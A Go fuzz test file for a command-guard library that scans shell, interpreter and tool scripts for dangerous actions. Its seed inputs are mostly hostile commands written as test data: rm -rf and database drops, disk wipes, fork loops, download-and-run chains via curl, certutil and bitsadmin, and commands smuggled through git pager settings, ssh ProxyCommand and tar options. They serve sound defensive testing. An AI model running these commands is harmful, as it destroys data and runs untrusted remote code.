package cmdguard

import (
	"strings"
	"testing"

	"github.com/harnish/harnish/guardrail/internal/shell"
)

func fuzzPolicy() *Policy {
	return &Policy{
		Protected: func(name, root string, glob bool) (string, bool) {
			return ".harnish/", strings.Contains(name, ".harnish")
		},
		Allowed: func(string, string) bool { return false },
		Root:    "/repo",
	}
}

// FuzzWrappers checks that no arguments after a wrapper make the unwrapping
// (option specs, xargs, parallel, env -S, flock, su, ssh, ...) panic, and
// that an option spec's split stays within its arguments.
func FuzzWrappers(f *testing.F) {
	for _, s := range []string{
		"sudo -u x rm -rf build", "env -vS 'rm -rf x'", "env -uHOME -C / rm -rf x", "xargs -0rI{} rm -rf {}",
		"xargs -i{} sh -c 'rm {}'", "parallel 'rm -rf {}' ::: a b", "parallel -I XX rm XX :::: f", "watch -tn 2 ls",
		"flock -c 'rm -rf x' /l", "su -lc 'rm -rf x' app", "ssh -p 22 host -- rm -rf x", "timeout -sKILL 5 ls",
		"taskset -p 1 2", "chrt -f 10 ls", "wsl -e ls", "runuser -u a -- ls", "sg g -c ls", "nsenter -t 1 -m ls",
		"sem -j 2 ls", "unshare --weird x rm -rf y", "echo a b | xargs -I{} rm -rf {}",
		"npx -y rimraf dist", "npm exec -c 'rm -rf x'", "uv run --with x python -c 1", "conda run -n e rm -rf x",
		"fd -x rm -rf {} ;", "watchexec -n -- rm -rf x", "entr -s 'rm -rf x'", "tmux -L s new -d 'rm -rf x'",
		"tmux send-keys -t 0 'rm -rf x' Enter", "screen -dmS s rm -rf x", "bwrap --bind / / --chdir /x rm -rf y",
		"cpulimit -l 5 -- rm -rf x", "run0 -u root rm -rf x", "lxc exec c -- rm -rf x", "vagrant ssh -c 'rm -rf x'", "if exist x (rd /s /q y) else (echo (z))", "set X=a %Y% & call %X% !X! %x%", "vagrant ssh w -- -L 1:h:2 -t rm -rf x", "vagrant ssh -- -o",
		"aws ssm send-command --parameters '{\"a\":[\"rm -rf x\"],\"b\":\"\\\"\"}'", "tool k='rm -rf x' '[\"", "rm $(echo -rf) `printf x`",
		"at now", "trap 'rm -rf x' EXIT", "hyperfine -p 'rm -rf x' --warmup 3 ls", "rush -j 2 'rm -rf {}'",
		"crontab -", "gdb -ex 'shell rm -rf x' --args rm -rf y", "perf stat -e cycles rm -rf x", "dtach -n /s rm -rf x",
		"shx rm -rf dist", "valgrind --tool=memcheck rm -rf x", "vim -c '!rm -rf x' +q", "make -f - all",
		"expect -c 'spawn rm -rf x'", "tar -xf a.tar -C .harnish", "unzip -o a.zip -d .harnish", "badblocks -wsv /dev/sdb",
		"dropdb app", "mysqladmin -f drop app", "git -c alias.co=checkout co -- .", "git -c clean.requireForce=false clean -dx",
		"tar -cf x --checkpoint-action=exec='rm -rf x' y", "tar -I 'sh -c x' -cf a b", "zip a b -TT 'rm -rf x'",
		"rsync -e 'sh -c x' a b:c", "ssh -oProxyCommand='rm -rf x' h", "ssh -o 'LocalCommand rm -rf x' h", "man -P 'rm -rf x' ls",
		"split --filter='rm -rf x' f", "git -c core.pager='rm -rf x' log", "git config core.editor 'rm -rf x'",
		"git difftool -x 'rm -rf x'", "git filter-branch --tree-filter 'rm -rf x' HEAD", "git grep -O'rm -rf x' y",
		"env GIT_SSH_COMMAND='rm -rf x' git fetch", "yarn rimraf dist", "pnpm run rimraf x", "bun run rimraf x",
		"srm -rf x", "wipe -r x", "noglob rm -rf x", "ed -s f", "ex -sc '%d|x' f", "manage.py dbshell",
		"rails dbconsole -p", "wrangler d1 execute DB --command 'DELETE FROM t'", "sqlite-utils drop-table a t",
		"git branch -D x", "git stash drop", "git worktree remove -f x", "git reset --merge",
		"elixir -e 'System.cmd(\"rm\", [\"-rf\", \"x\"])'", "groovy -e '\"rm -rf x\".execute()'", "tclsh -encoding utf-8",
		"dos2unix go.sum", "yq -i '.a=1' f", "prettier --write .", "ddrescue a /dev/sdb", "bmaptool copy a /dev/sdb",
		"docker run --entrypoint=rm alpine -rf x", "cmake -E remove_directory x", "make -f /dev/stdin",
		"setpriv --reuid=1 rm -rf x", "deno run -A npm:rimraf x", "psql -c '\\! rm -rf x'", "sqlite3 a '.shell rm -rf x'",
		"cross-env A=1 rm -rf x", "dotenv -e .env -- rm -rf x", "op run -- rm -rf x", "aws-vault exec p -- x", "sops exec-env f 'x'",
		"nix-shell --run 'rm -rf x'", "nix develop -c rm -rf x", "mise exec -- x", "nvm exec 20 x", "adb shell rm -rf x",
		"start-stop-daemon -S -x /bin/rm -- -rf x", "xterm -e rm -rf x", "nodemon -x 'rm -rf x'", "concurrently 'rm -rf x' y",
		"rails db:drop", "php artisan migrate:fresh", "migrate -path x drop -f", "flyway clean", "bq rm -f -t x",
		"rails runner 'x.execute(\"DROP TABLE t\")'", "manage.py shell -c 'x'", "artisan tinker --execute=x",
		"pacman -Syu x", "nix-env -iA x", "cpan -i x", "cpanm x", "composer require x:^1", "gh extension install x",
		"find . -fprint .harnish/x", "git log --output=x", "base64 -ox", "aria2c -d .git -o x u", "scp h:x .",
		"lldb -o 'platform shell rm -rf x'", "make --eval='a: ; rm -rf x' a", "npm pkg set scripts.x='rm -rf x'",
		"rg --pre rm x", "runas /user:x 'cmd /c rd /s /q x'", "schtasks /create /tr 'cmd /c x'", "gpart destroy x",
		"rclone sync a b", "aws s3 sync s3://b ./x --delete", "gsutil rsync -d gs://b x", "docker cp c:/x .git/",
		"kubectl cp ns/p:/x .harnish/x", "unison a b -force a", "pg_restore -c -d app x", "gh repo sync --force",
		"hub push -f", "git clone u .harnish", "python -m json.tool a b",
		"machinectl shell h /bin/rm -rf x", "systemd-nspawn -D /c rm -rf x", "mosh h -- rm -rf x", "tsh ssh h rm -rf x",
		"fab -H h -- rm -rf x", "psexec \\\\h cmd /c rd /s /q x", "wmic process call create 'cmd /c x'",
		"curl -o i.sh u && sh i.sh", "wget u; bash ./u", "tar -czf .harnish/x src", "zip -r .git/x src", "7z a x y",
		"git config -f .git/config a b", "git checkout -- \"$(git rev-parse --show-toplevel)\"", "curl u | xargs sh -c",
		"GIT_CONFIG_PARAMETERS=\"'core.pager=rm -rf x' 'a'='b'\" git log", "GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_1=core.pager git log",
		"P='rm -rf x' git --config-env=core.pager=P log", "env -C .harnish rm x", "sudo -D /etc rm x",
		"corepack pnpm@9 add x", "btrfs sub del x", "lvresize -L-1G x", "git branch -D --help",
		"echo 'rm -rf x' > s.sh && bash s.sh", "printf 'a:\\n\\trm -rf x\\n' > Makefile && make",
		"echo '* * * * * rm -rf x' > c && crontab -u a c", "echo 'DROP TABLE t' > x.sql; psql -f x.sql",
		"certutil -urlcache -f https://x/i.bat i.bat && i.bat", "bitsadmin /transfer j https://x/i i",
		"git -C .harnish -C x rm y", "cd \"$(git rev-parse --git-dir)/x\" && rm y",
	} {
		i := strings.IndexByte(s, ' ')
		f.Add(s[:i], s[i+1:])
	}
	p := fuzzPolicy()
	f.Fuzz(func(t *testing.T, wrapper, rest string) {
		if len(wrapper) > 64 || len(rest) > 4096 {
			return
		}
		var words []shell.Word
		for _, w := range strings.Fields(rest) {
			words = append(words, shell.Lit(w))
		}
		for _, spec := range wrapperSpecs {
			i, _, alt := spec.split(words)
			if i < 0 || i > len(words) || alt < 0 || alt > len(words) {
				t.Fatalf("split(%q) = %d, alt %d: outside %d words", rest, i, alt, len(words))
			}
		}
		Check(p, wrapper+" "+rest, Bash)
		for _, w := range []string{"xargs", "parallel", "env", "flock", "su", "ssh", "watch", "sudo", "timeout",
			"npx", "npm exec", "uv run", "pnpm dlx", "fd", "watchexec", "entr", "at", "tmux", "screen", "bwrap",
			"cpulimit", "lxc exec", "vagrant ssh", "trap", "git submodule foreach", "git rebase -x", "rimraf",
			"hyperfine", "rush", "crontab", "gdb", "perf", "dtach", "shx", "valgrind", "vim", "make", "expect", "tar",
			"unzip", "7z", "badblocks", "dropdb", "mysqladmin", "git -c alias.x=reset x", "del-cli", "sed",
			"zip", "rsync", "split", "man", "scp", "git difftool", "git filter-branch", "git grep", "git send-email",
			"git config", "git branch", "git stash", "git worktree", "yarn", "pnpm", "bun", "srm", "wipe", "ed", "ex",
			"manage.py", "rails", "wrangler d1 execute", "sqlite-utils", "heroku", "prisma db execute", "noglob",
			"elixir -e", "groovy -e", "scala", "tclsh", "dos2unix", "yq", "prettier", "black", "eslint", "ddrescue",
			"bmaptool", "dcfldd", "setpriv", "deno run", "psql -c", "mysql -e", "sqlcmd -Q", "cmake -E",
			"docker run --entrypoint", "docker compose run --entrypoint", "zx -e", "sg_format", "printf",
			"cross-env", "dotenv", "pg_dump", "ssh-keygen", "ffmpeg", "convert", "protoc", "script", "time", "strace",
			"docker save", "podman export", "gh release download", "git bundle create", "gzip", "uniq", "xxd", "csplit",
			"awk", "mktemp", "curl", "sqlite3", "env-cmd", "op run", "doppler run", "aws-vault exec", "sops exec-env", "nix-shell",
			"nix develop", "mise exec", "nvm exec", "fnm exec", "volta run", "distrobox enter", "ddev exec", "adb shell",
			"start-stop-daemon", "xterm", "gnome-terminal", "nodemon", "chokidar", "concurrently", "git bisect run",
			"rails", "php artisan", "php bin/console", "python manage.py", "dotnet ef", "migrate", "bq", "gcloud sql",
			"pacman", "yay", "zypper", "nix-env", "cpan", "composer", "deno", "gh", "find", "git log", "base64",
			"aria2c", "wget", "gcc", "lldb", "make", "npm pkg set", "npm set-script", "rg", "runas", "schtasks",
			"gpart", "nwipe", "scrub", "rclone", "aws s3", "gsutil", "docker cp", "kubectl cp", "unison", "pg_restore",
			"gh repo sync", "hub", "git clone", "python -m json.tool", "python3 -m IPython", "ipython", "emacs --eval",
			"nvim -c", "vim -c", "R -e", "machinectl shell", "systemd-nspawn", "mosh", "tsh ssh", "fab", "psexec", "wmic",
			"tar -cf", "zip", "7z a", "git config -f", "rails runner", "curl -o x u && sh",
			"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager git", "GIT_CONFIG_PARAMETERS=", "git --config-env",
			"env -C", "sudo -D", "corepack", "btrfs", "lvresize"} {
			Check(p, w+" "+rest, Bash)
		}
	})
}

// FuzzInterpreterCode checks that no code makes the interpreter scanners
// panic or report calls they cannot have found, in any language.
func FuzzInterpreterCode(f *testing.F) {
	for _, s := range []string{
		"import os; os.system('rm -rf build')", "__import__('os').system(\"x\")", "subprocess.run(['rm', '-rf', x], shell=True)",
		"require('child_process').execSync(`rm -rf ${d}`)", "fs.rmSync('x', {recursive: true})",
		"new Deno.Command('rm', {args: ['-rf']})", "Bun.$`rm -rf x`", "system \"rm\", \"-rf\"", "qx{rm -rf x}",
		"%x(rm -rf x)", "`rm -rf x`", "fork while fork", "f'''rm {x}'''", "r\"a\\\"b\"", "$#a # c", "/* x */ exec(",
		"FileUtils.rm_rf 'x'", "os.execute(", "system(\"", "(((((", "'", "\"\"\"",
		"from shutil import rmtree as r; r('x')", "os.execvp('rm', ['rm', '-rf', 'x'])", "os.spawnlp(0, 'rm', 'rm')",
		"open('.env', 'w').write('x')", "open(F, \"rm -rf x |\")", "open(F, '-|', 'rm')", "BEGIN { system(\"rm -rf x\") }",
		"rm(\"x\", recursive=true)", "run(`rm -rf x`)", "FileUtils.rm_rf %w[a b]", "while(1) pcntl_fork();",
		"exec('import shutil; shutil.rmtree(\"b\")')", "getattr(os, 'system')('x')", "from subprocess import run, Popen",
		"const {execSync: x} = require('child_process'); x('y')", "import {rmSync as r} from 'fs'", "pathlib.Path('x').unlink()",
		"import sh; sh.rm('-rf', 'x')", "local[\"rm\"](\"-rf\")", "system qq{rm -rf x}", "q(a) qw[b c] qq<d>",
		"%q(x) %Q[y] %w[a b].join(' ')", "do shell script \"rm -rf x\"", "\"rm\" | getline; print \"x\" | \"sh\"",
		"sqlite3.connect('a').execute('DROP TABLE t')", "db.exec(\"TRUNCATE t\")", "asyncio.run(main())", "!rm -rf x\n%system ls",
		"unlink(\"x\", recursive = TRUE); system2('rm', c('-rf', 'x'))", "Pathname(\"x\").rmtree", "pcntl_exec(\"/bin/rm\", [\"-rf\"])",
		"require('shelljs').rm('-rf', 'x')", "install.packages(c(\"a\", \"b\"))", "using Pkg; Pkg.add(name=\"X\")",
		"for r, d, f in os.walk('x'): os.remove(f)", "import('fs/promises').then(m => m.rm('x', {recursive: true}))",
		"User.delete_all; drop_table(:t)", "Event.objects.all().delete()", "db.x.deleteMany({})", "Schema::drop('t'); X::truncate()",
		"getattr(__import__('shutil'), 'rmtree')('x')", "importlib.import_module('os').system('x')", "f = shutil.rmtree; f(f(f('x')))",
		"require('fs')['rmSync']('x')", "const r = require('child_process').execSync; r('x'); r(", "Kernel.send(:system, 'x')",
		"m = FileUtils.method(:rm_rf); m.call('x')", "x.__send__(\"rm_rf\")", "call_user_func_array('system', ['x'])",
		"$f = 'system'; $f('x'); $f(", "call_user_func('exec')", "exec(urlopen('https://x').read())", "fetch('u').then(t => eval(t))", "eval get('http://x')", "while True: Popen(x)", "for (;;) spawn(", "while true do os.execute('x &') end", "my $f = \\&File::Path::rmtree; $f->('x'); &$f('y'); &{$f}('z')",
	} {
		f.Add(s)
	}
	p := fuzzPolicy()
	f.Fuzz(func(t *testing.T, code string) {
		if len(code) > maxCode {
			return
		}
		for _, l := range langs {
			calls := scanCalls(l, code)
			if len(calls) > maxCalls {
				t.Fatalf("%s: %d calls, more than %d", l.name, len(calls), maxCalls)
			}
		}
		e := &evaluator{p: p, root: "/repo", maxDepth: DefaultMaxDepth}
		for _, name := range []string{"python3", "node", "perl", "ruby", "php", "lua", "deno", "julia", "awk", "tsx"} {
			k := &call{c: &shell.Cmd{Source: name}, name: name, args: []shell.Word{shell.Lit("-e"), shell.Lit(code)}}
			if name == "python3" {
				k.args[0] = shell.Lit("-c")
			}
			if name == "deno" {
				k.args = []shell.Word{shell.Lit("eval"), shell.Lit(code)}
			}
			if name == "awk" {
				k.args = []shell.Word{shell.Lit(code)}
			}
			e.rules(k)
		}
	})
}

// FuzzToolScripts checks the small scanners of other tools' scripts (sed's
// e command, awk's pipes, Perl's and Ruby's quote-like literals, SQL
// string literals, crontab lines) for panics and their bounds.
func FuzzToolScripts(f *testing.F) {
	for _, s := range []string{
		"1e rm -rf x", "s/.*/rm -rf x/e", "/re/e ls;s|a|b|we", `"rm -rf x" | getline`, `print "x" | "sh"`,
		"system qq{rm -rf x}; q(a) qw[b c]", "%w[rm -rf x].join(' ') %q(y)", "SELECT 'DROP TABLE t'; EXECUTE 'DROP TABLE u'",
		`"Users" 'it''s' "a"" b"`, "* * * * * rm -rf /srv", "@reboot rm -rf x", "DELETE LOW_PRIORITY t1, t2 FROM t1; TRUNCATE x",
		"%d|wq", ":1,$w!|q", "rm -rf %s\\n", "\\x72\\162\\u0072%b%%%5.2d\\", "map(shutil.rmtree, d)", "w\nq\n", "1w .git/x", ".backup main f", "\\o |cat", "VACUUM INTO 'x'", "SELECT 1 INTO OUTFILE \"f\"", ":w! f|wq >> g", "w !sh", "$!{W out\n}", "s|a|b|gw f", "s/a", `{ print > (".h/" $1) }`, `$1 > "m" { printf "%s" >> "f" }`, "delete from t where", "DELETE FROM", "--- a/x\n+++ b/y\n+k\n--- /dev/null\n+++ \"b/z\"\t0\n", "PATH=/bin", "'", `"`, "qq{", "%w[",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > maxCode {
			return
		}
		if n := len(sedExec(s)); n > maxCalls {
			t.Fatalf("sedExec: %d commands, more than %d", n, maxCalls)
		}
		if n := len(sqlWrites(s)); n > maxCalls {
			t.Fatalf("sqlWrites: %d files, more than %d", n, maxCalls)
		}
		if n := len(exWriteTargets(s)); n > maxCalls {
			t.Fatalf("exWriteTargets: %d files, more than %d", n, maxCalls)
		}
		for _, w := range sedWrites(s) {
			if !strings.Contains(s, w) {
				t.Fatalf("sedWrites: %q is not in the script", w)
			}
		}
		if n := len(awkOutputs(s)); n > maxCalls {
			t.Fatalf("awkOutputs: %d files, more than %d", n, maxCalls)
		}
		if n := len(awkPipes(s)); n > maxCalls {
			t.Fatalf("awkPipes: %d commands, more than %d", n, maxCalls)
		}
		quoteLike(langs["perl"], s)
		quoteLike(langs["ruby"], s)
		if out := sqlStrings(s); len(out) != len(s) {
			t.Fatalf("sqlStrings changed the length: %d, was %d", len(out), len(s))
		}
		sqlDanger(s)
		exWrites(s)
		if text, ok := printfText([]shell.Word{shell.Lit(s), shell.Lit("a"), shell.Lit(s)}); ok && len(text) > maxCode+8 {
			t.Fatalf("printfText: %d bytes, more than %d", len(text), maxCode)
		}
		if n := len(stringLiterals(s, maxCalls)); n > maxCalls {
			t.Fatalf("stringLiterals: %d, more than %d", n, maxCalls)
		}
		gitCommandKey(strings.ToLower(s), s)
		shell.CommandVariable(s)
		cronCommand(s)
		for _, l := range langs {
			walkDelete(l, s)
		}
		stringArgNext(s)
		windowsEnvPath(s)
		psArgs([]shell.Word{shell.Lit("-ArgumentList"), shell.Lit(s + ","), shell.Lit(s)}, psStartProcess)
		if len(blankStrings(s)) != len(s) {
			t.Fatalf("blankStrings changed the length")
		}
		topLevelWord(shell.Word{Text: s, Segs: []shell.Seg{{Text: s, Dynamic: true}}})
		nodeVersion(s)
		remoteURL(s)
		if n := len(splitPaths(shell.Word{Text: s, Quoted: true})); n > len(s) {
			t.Fatalf("splitPaths: %d paths from %d bytes", n, len(s))
		}
		if n := len(diffFiles(s)); n > maxDiffFiles {
			t.Fatalf("diffFiles: %d files, more than %d", n, maxDiffFiles)
		}
	})
}
